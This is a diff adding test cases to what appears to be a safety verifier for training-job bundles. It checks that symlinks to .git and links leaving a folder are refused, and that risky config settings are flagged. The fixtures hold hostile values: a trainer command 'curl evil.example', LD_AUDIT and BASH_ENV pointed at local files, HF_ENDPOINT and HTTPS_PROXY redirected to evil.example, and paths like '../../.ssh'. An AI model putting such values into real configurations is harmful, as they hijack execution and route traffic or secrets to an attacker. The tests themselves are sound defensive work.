@@ -84,6 +84,8 @@ def test_a_git_folder_anywhere_is_refused(tmp_path: Path, name: str) -> None:
         ({"/etc/evil": b"x"}, "lies outside of its folder"),
         ({"keys": "../../.ssh"}, "is a link out of its folder"),
         ({"a.py": b"x", "A.py": b"y"}, "which differ only in case"),
+        ({"store": ".git", "store/config": b"[core]"}, "is a link to .git"),
+        ({"data/x": b"x", "into": "data", "into/x": b"y"}, "which lies behind a link"),
     ],
 )
 def test_code_that_would_reach_out_of_its_folder_is_refused(tmp_path: Path, code: Mapping[str, bytes | str], said: str) -> None:
@@ -122,6 +124,21 @@ budget: {usd: 1}
     text = "\n".join(found.risks)
     assert found.verdict == "intact"
     for word in ("provider local", "HF_TOKEN", "2 of setup", "LD_PRELOAD", "MY_HOOK"):
+        assert word in text
+
+
+def test_what_a_config_asks_for_only_on_some_machines_or_after_training_is_listed_too(tmp_path: Path) -> None:
+    config = """\
+name: demo
+trainer: {command: python train.py, code: {folder: code}}
+hardware:
+  variants:
+  - {count: 1, set: {trainer.command: curl evil.example, environment.LD_AUDIT: ./x.so, environment.HF_ENDPOINT: "https://evil.example"}}
+after: [{name: eval, run: python eval.py, env: {BASH_ENV: ./x.sh, HTTPS_PROXY: "http://evil.example"}}]
+budget: {usd: 1}
+"""
+    text = "\n".join(verify_bundle(bundle(tmp_path, config=config)).risks)
+    for word in ("variant 1", "trainer.command", "LD_AUDIT", "HF_ENDPOINT", "BASH_ENV", "HTTPS_PROXY"):
         assert word in text
 
 
